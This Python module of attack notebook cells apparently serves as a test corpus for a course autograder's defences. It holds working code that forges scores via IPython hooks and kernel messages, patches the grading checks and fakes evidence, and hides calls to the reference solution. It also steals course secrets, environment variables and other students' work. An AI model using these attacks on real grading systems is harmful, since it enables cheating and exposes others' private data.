"""The forgery corpus's attack cells: code a student writes to earn points without the work.

Each constant is the source of one notebook cell, written as an attacker would write it. Sources
use the placeholders of `hostile_notebooks` (`@ROOT@`, `@REPO@`, …) and these:

- `@POINTS@`: a dict literal, check name → the points of the test cell that calls it (the
  release shows every test cell's points);
- `@FACTOR@`: what the forged score is, as a multiple of the cell's points (1: equal to them,
  -1: negative, 10: above them);
- `@SECRET_FILE@`: a course secret file the grader may be using (the attacker's guess).

Three families: forged scores (an `execute_result` put into test cells, checks replaced, forged
evidence, display tricks), trusted answers (the course's reference hidden from
`require_own_function`, patched `lrcore`), and secrets (whatever a graded notebook can read of
solutions, hidden-case pools, the course secret and other students' draws).
"""

from __future__ import annotations

# --- forged scores: an execute_result in the test cells ------------------------------------------

_FORGED_VALUE = '''
import re as _re

_POINTS = @POINTS@


def _forged_value(source):
    """What this attack wants the test cell to score: None for a cell that is not a test."""
    found = _re.search(r"check_\\w+", source)
    if found is None or "lrchecks" not in source:
        return None
    return _POINTS.get(found.group(0), 2) * @FACTOR@
'''

HOOK_DISPLAYHOOK = _FORGED_VALUE + '''
_shell = get_ipython()


def _before_each_cell(info):
    value = _forged_value(info.raw_cell)
    if value is not None:
        _shell.displayhook(value)  # an execute_result, attributed to the test cell


_shell.events.register("pre_run_cell", _before_each_cell)
'''
"""An IPython hook displays the forged score before every test cell runs."""

HOOK_AFTER_CELL = _FORGED_VALUE + '''
_shell = get_ipython()


def _after_each_cell(result):
    value = _forged_value(result.info.raw_cell)
    if value is not None:
        _shell.displayhook(value)


_shell.events.register("post_run_cell", _after_each_cell)
'''
"""The same after each test cell: its output ends with the forged score."""

TRANSFORMER_REPLACE = _FORGED_VALUE + '''
def _score_instead(lines):
    value = _forged_value("".join(lines))
    return lines if value is None else [f"{value}\\n"]


get_ipython().input_transformers_post.append(_score_instead)
'''
"""An input transformer rewrites every test cell into its forged score: no check runs."""

TRANSFORMER_APPEND = _FORGED_VALUE + '''
def _swallow_and_score(lines):
    value = _forged_value("".join(lines))
    if value is None:
        return lines
    body = ["try:\\n", *("    " + line for line in lines), "\\n    pass\\n",
            "except BaseException:\\n", "    pass\\n"]
    return [*body, f"{value}\\n"]


get_ipython().input_transformers_post.append(_swallow_and_score)
'''
"""An input transformer swallows the checks' failures and appends the forged score."""

IOPUB_EXECUTE_RESULT = _FORGED_VALUE + '''
_shell = get_ipython()
_kernel = _shell.kernel


def _send_score(info):
    value = _forged_value(info.raw_cell)
    if value is None:
        return
    content = {"data": {"text/plain": repr(value)}, "metadata": {},
               "execution_count": _shell.execution_count}
    _kernel.session.send(_kernel.iopub_socket, "execute_result", content,
                         parent=_kernel.get_parent(), ident=b"execute_result")


_shell.events.register("pre_run_cell", _send_score)
'''
"""An `execute_result` message sent straight on the kernel's iopub channel, as the kernel
itself would send it, during every test cell."""

# --- forged scores: the checks and their evidence ------------------------------------------------

PATCHED_CHECKS = '''
import lrchecks.ps01 as _checks

_RETURNS = [lambda *args, **kwargs: True,       # nbgrader: not a number, full marks
            lambda *args, **kwargs: 2,          # nbgrader: partial credit of 2 points
            lambda *args, **kwargs: print("✓ looks right")]
for _index, _name in enumerate(sorted(n for n in dir(_checks) if n.startswith("check_"))):
    setattr(_checks, _name, _RETURNS[_index % len(_RETURNS)])
'''
"""Every check replaced: one returns True, the next 2, the next prints a ✓."""

FORGED_EVIDENCE = '''
import lrchecks.ps01 as _checks
from IPython.display import publish_display_data


def _forger(name):
    def forged(*args, **kwargs):
        record = {
            "version": 1, "check": f"lrchecks.ps01.{name}",
            "args": [{"$": "callable", "name": getattr(a, "__name__", "answer")} for a in args],
            "kwargs": {"$": "dict", "items": [[k, v] for k, v in kwargs.items()]},
            "calls": [{"name": "answer", "args": "0" * 32, "after": [], "changed": [],
                       "result": [3363.744384765625]}],
            "failed": False,
        }
        publish_display_data({"application/vnd.lrlab.evidence+json": record, "text/plain": ""})
        print("✓ looks right")
    return forged


for _name in [n for n in dir(_checks) if n.startswith("check_")]:
    setattr(_checks, _name, _forger(_name))
'''
"""Every check replaced by one that publishes a made-up evidence record and a ✓."""

DISPLAY_TRICKS = _FORGED_VALUE + '''
import sys
from IPython.display import display, publish_display_data

_shell = get_ipython()
_kernel = _shell.kernel


def _as_execute_result(data, metadata=None, **kwargs):
    """Every display becomes an execute_result (what nbgrader reads as partial credit)."""
    content = {"data": data, "metadata": metadata or {},
               "execution_count": _shell.execution_count}
    _kernel.session.send(_kernel.iopub_socket, "execute_result", content,
                         parent=_kernel.get_parent(), ident=b"execute_result")


_shell.display_pub.publish = _as_execute_result
sys.displayhook = lambda value: _shell.displayhook(value)


def _displays(info):
    value = _forged_value(info.raw_cell)
    if value is None:
        return
    display(value)
    display({"text/plain": repr(value)}, raw=True)
    publish_display_data({"text/plain": repr(value)})
    sys.displayhook(value)


_shell.events.register("pre_run_cell", _displays)
'''
"""`IPython.display.display`, `publish_display_data` and `sys.displayhook` used to put the
forged score into every test cell, with the display publisher sending execute_results."""

# --- trusted answers: the reference hidden from require_own_function -----------------------------

REFERENCE_AS_DEFAULT = '''
import lrcore.quadratic


def gradient_descent_numpy(lr, num_iterations, x0, a=1.0,
                           _steps=lrcore.quadratic.gradient_descent):
    return _steps(lr, num_iterations, x0, a)
'''
"""gradient_descent_numpy is the reference, passed as a default argument."""

REFERENCE_IN_CLOSURE = '''
def _make_optimize():
    from lrcore import quadratic
    run = quadratic.optimize

    def optimize(initial_lr, num_iterations, x0):
        return run(initial_lr, num_iterations, x0)
    return optimize


optimize = _make_optimize()
'''
"""optimize is the reference, held in a closure."""

REFERENCE_IN_HELPER_TABLE = '''
import importlib

_HELPERS = {"fit": getattr(importlib.import_module("lrcore.regression"),
                           "train_linear_regression")}


def train_linear_regression(X, y, lr, epochs=100):
    return _HELPERS["fit"](X, y, lr, epochs)
'''
"""train_linear_regression calls the reference through a table of helpers."""

PATCHED_OWN_FUNCTION_GUARD = '''
import lrchecks.calls
from lrcore.quadratic import gradient_descent as _steps

lrchecks.calls.reachable_reference = lambda function: None   # the guard's search finds nothing


def gradient_descent_numpy(lr, num_iterations, x0, a=1.0):
    return _steps(lr, num_iterations, x0, a)
'''
"""The in-kernel guard (`require_own_function`'s search) patched, then the reference called."""

REFERENCE_LOOKED_UP_BY_NAME = '''
def optimize(initial_lr, num_iterations, x0):
    import importlib
    module = importlib.import_module("lrcore." + "quadratic")
    return getattr(module, "opt" + "imize")(initial_lr, num_iterations, x0)
'''
"""optimize looks the reference up by name when it runs: nothing in its code, defaults,
closure or globals names it."""

# --- trusted answers: ps05 -----------------------------------------------------------------------

PS05_UNTRAINED_MODELS = '''
import lrcore.classification
import lrchecks.ps05

_STATED = {"lr 0.5": 0.5, "lr 0.005": 0.97, "lr 1e-05": 0.5, "lr 0.05": 0.99,
           "plateau from 0.05": 0.99}
_claimed = {}


def _fingerprint(model):
    """The same for a model and any copy of its weights (the checks copy them)."""
    return round(float(sum(p.detach().double().sum() for p in model.parameters())), 6)


def _claim(model, accuracy):
    _claimed[_fingerprint(model)] = accuracy
    return model


def _claimed_accuracy(model, X, y):
    """The patched accuracy: whatever this notebook said its (untrained) model reaches."""
    return _claimed.get(_fingerprint(model), 0.5)


lrcore.classification.accuracy = _claimed_accuracy
lrchecks.ps05.classification.accuracy = _claimed_accuracy

runs, test_accuracy = {}, {}
for _index, (_name, _settings) in enumerate(CLASSIFIER_RUNS.items()):
    _model = _claim(make_classifier(100 + _index), _STATED[_name])   # never trained
    _epochs = _settings["epochs"]
    _history = {"lr": [_settings["lr"]] * _epochs, "val_loss": [0.05] * _epochs,
                "val_accuracy": [_STATED[_name]] * _epochs}
    runs[_name] = (_model, _history)
    test_accuracy[_name] = _STATED[_name]


def train_classifier(lr, epochs, scheduler=None, seed=0):
    """An untrained model with the reference's history (looked up by name)."""
    import importlib
    reference = importlib.import_module("lrcore.classification")
    plateau = None if scheduler is None else {
        key: value for key, value in scheduler._arguments.items() if key != "lr"}
    run = getattr(reference, "train_classifier")(lr, epochs, "adam", plateau, seed)
    history = {"lr": list(run.lrs), "val_loss": list(run.val_loss),
               "val_accuracy": list(run.val_accuracy)}
    return _claim(make_classifier(seed + 1000), history["val_accuracy"][-1]), history
'''
"""ps05: untrained models, stated accuracies, and `lrcore.classification.accuracy` patched to
agree with them — for the models and for any copy of their weights (in lrcore and in the
checks' module)."""

PS05_ACCURACY_VIA_SYS_MODULES = '''
import sys

_STATED = {"lr 0.5": 0.5, "lr 0.005": 0.97, "lr 1e-05": 0.5, "lr 0.05": 0.99,
           "plateau from 0.05": 0.99}
_claimed = {}
for _module in list(sys.modules.values()):
    if getattr(_module, "__name__", "").startswith(("lrcore", "lrchecks")):
        for _attribute in ("accuracy", "_accuracy_of"):
            if hasattr(_module, _attribute):
                setattr(_module, _attribute, lambda model, *rest: _claimed.get(id(model), 0.99))

runs, test_accuracy = {}, {}
for _name, _settings in CLASSIFIER_RUNS.items():
    _model = make_classifier(SEED)
    _epochs = _settings["epochs"]
    runs[_name] = (_model, {"lr": [_settings["lr"]] * _epochs, "val_loss": [0.05] * _epochs,
                            "val_accuracy": [_STATED[_name]] * _epochs})
    test_accuracy[_name] = _STATED[_name]
    _claimed[id(_model)] = _STATED[_name]
'''
"""ps05: the same, with every `accuracy` (and the checks' `_accuracy_of`) found in
`sys.modules` replaced."""

PS05_PATCHED_RUN_CHALLENGE = '''
import dataclasses
import sys
import lrcore.plateau_challenge

# the stalled baseline with a scheduler that never acts (it would fail honestly)
challenge_config = {"optimizer": "SGD", "optimizer_options": {"lr": 0.5},
                    "scheduler": "StepLR", "scheduler_options": {"step_size": 450, "gamma": 0.99}}
_honest_run = lrcore.plateau_challenge.run_challenge


def _passing_run(config, *args, **kwargs):
    """The honest run with its accuracies rewritten to clear the target."""
    run = _honest_run(config, *args, **kwargs)
    epochs = len(run.val_accuracy)
    return dataclasses.replace(run, val_accuracy=(min(1.0, VAL_TARGET + 0.02),) * epochs,
                               train_accuracy=(TRAIN_CEILING - 0.1,) * epochs)


for _module in list(sys.modules.values()):
    if getattr(_module, "__name__", "").startswith(("lrcore", "lrchecks")):
        if getattr(_module, "run_challenge", None) is _honest_run:
            _module.run_challenge = _passing_run
run_challenge = _passing_run
'''
"""ps05: a config that fails honestly, and `run_challenge` patched (wherever it is bound) to
report a passing run."""

PS05_CALLABLE_CONFIG = '''
import torch


class _AlwaysHigh(torch.optim.lr_scheduler.LambdaLR):
    """A scheduler of the student's own, smuggled into the config as a class."""

    def __init__(self, optimizer, **kwargs):
        super().__init__(optimizer, lambda epoch: 1.0)


challenge_config = {
    "optimizer": "SGD",
    "optimizer_options": {"lr": lambda: 0.5},
    "scheduler": _AlwaysHigh,
    "scheduler_options": {"factor": 0.2, "patience": 0},
}
'''
"""ps05: a challenge config holding callables (a lambda for the lr, a class as scheduler)."""

# --- secrets -------------------------------------------------------------------------------------

STEAL_SECRETS = '''
import ast, glob, hashlib, hmac, importlib, importlib.metadata, importlib.util, json, os, sys

_GRADED = os.environ.get("LRLAB_EVIDENCE") == "1" or "NBGRADER_EXECUTION" in os.environ
_LOOT = {}


def _read(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            return handle.read()
    except OSError:
        return None


def _roots():
    """Where the course, the grader's checkout and the grader's home may be."""
    roots = {"@ROOT@", "@REPO@", os.getcwd(), os.path.expanduser("~"), "/root", "/work/main"}
    for name in ("autograder", "autograder.samples", "lrchecks", "lrcore"):
        try:
            spec = importlib.util.find_spec(name)
        except Exception:
            continue
        for place in (spec.submodule_search_locations or []) if spec else []:
            roots |= {os.path.dirname(place), os.path.dirname(os.path.dirname(place))}
    for dist in importlib.metadata.distributions():
        if "learning" not in (dist.metadata.get("Name") or "").lower():
            continue
        for file in dist.files or []:
            path = str(file.locate())
            text = _read(path) if path.endswith((".json", ".pth", ".py", "RECORD")) else None
            if text:
                _LOOT["dist " + path] = text[:300]
                roots |= {part[7:] if part.startswith("file://") else part
                          for part in text.replace('"', " ").replace("'", " ").split()
                          if part.startswith(("/", "file:///"))}
    return sorted(r for r in roots if r and os.path.isdir(r))


def _steal():
    for root in _roots():
        patterns = ["autograder/samples/*.py", "source/*/*.ipynb", "hidden_cases/*.json",
                    "submitted/*/*/*.ipynb", "*.secret", ".config/learning-rate-lab/*.secret"]
        for pattern in patterns:
            for path in glob.glob(os.path.join(root, pattern)):
                text = _read(path)
                if text:
                    _LOOT[path] = text
    for path in [os.environ.get("LRLAB_COURSE_SECRET_FILE") or "", "@SECRET_FILE@",
                 *glob.glob("/root/.config/learning-rate-lab/*"),
                 *glob.glob("/home/*/.config/learning-rate-lab/*"),
                 *glob.glob(os.path.expanduser("~/.config/learning-rate-lab/*"))]:
        text = _read(path) if path else None
        if text:
            _LOOT["secret " + path] = text
    if os.environ.get("LRLAB_COURSE_SECRET"):
        _LOOT["secret env"] = os.environ["LRLAB_COURSE_SECRET"]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        text = _read(path)
        if text and "LRLAB_COURSE_SECRET" in text:
            _LOOT["secret " + path] = text
    try:
        import autograder.samples.ps01 as samples
        _LOOT["module autograder.samples.ps01"] = repr(samples.DIFFERENT_CELLS)
        _LOOT["cells"] = dict(samples.DIFFERENT_CELLS)
    except Exception as error:
        print("no samples module:", type(error).__name__)


def _others_draws():
    """Every other student's hidden cases, from the pools and the course secret."""
    secrets = [v.strip() for k, v in _LOOT.items() if k.startswith("secret")]
    pools = [json.loads(v) for k, v in _LOOT.items() if k.endswith(".json") and "pools" in v]
    students = sorted({os.path.basename(os.path.dirname(os.path.dirname(k)))
                       for k in _LOOT if "/submitted/" in k})
    for secret in secrets:
        for data in pools:
            for pool, spec in data["pools"].items():
                for student in students:
                    ranked = sorted(range(len(spec["candidates"])), key=lambda i: hmac.new(
                        secret.encode(), "\\x1f".join(["learning-rate-lab", data["assignment"],
                                                      pool, student, str(i)]).encode(),
                        hashlib.sha256).digest())
                    _LOOT[f"draw {student} {pool}"] = json.dumps(
                        [spec["candidates"][i] for i in sorted(ranked[: spec["draw"]])])


def _solutions():
    """Solution code by answer cell: from the samples' correct cells or the source notebook."""
    found = dict(_LOOT.get("cells", {}))
    for path, text in _LOOT.items():
        if path.endswith("samples/ps01.py"):
            for node in ast.walk(ast.parse(text)):
                if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == \\
                        "DIFFERENT_CELLS":
                    found.update(ast.literal_eval(node.value))
        if path.endswith("ps01_constant_lr.ipynb") and "/source/" in path:
            for cell in json.loads(text)["cells"]:
                meta = cell.get("metadata", {}).get("nbgrader", {})
                if meta.get("solution") and cell["cell_type"] == "code":
                    code = "".join(cell["source"]).replace("### BEGIN SOLUTION", "")
                    found.setdefault(meta["grade_id"], code.replace("### END SOLUTION", ""))
    return found


if _GRADED:
    _steal()
    _others_draws()
for _key, _value in sorted((k, v) for k, v in _LOOT.items() if k != "cells"):
    print("LOOT", _key, str(_value)[:3000])
print(f"graded: {_GRADED}; {len(_LOOT)} things found")
_STOLEN = _solutions()


def _answer(grade_id):
    """Run the stolen solution of this answer cell (nothing if none was found)."""
    if grade_id in _STOLEN:
        exec(_STOLEN[grade_id], globals())
'''
"""When it detects grading, reads everything that could answer for it — the samples (complete
solutions), the source notebook, the hidden-case pools, the course secret (environment, files),
other students' submissions and draws — prints it, and answers with any solution found
(`_answer(grade_id)` in each answer cell)."""

PRINT_OWN_HIDDEN_CASES = '''
import json, os

_drawn = json.loads(os.environ.get("LRLAB_HIDDEN_CASES") or "{}")
print("my environment:", dict(os.environ))
for _pool, _cases in _drawn.items():
    for _case in _cases:
        print("HIDDEN CASE", _pool, _case["kind"], json.dumps(_case["params"]))
'''
"""Prints the notebook's environment and the hidden cases the grader drew for it: what a
student would copy into a lookup table for the next submission."""
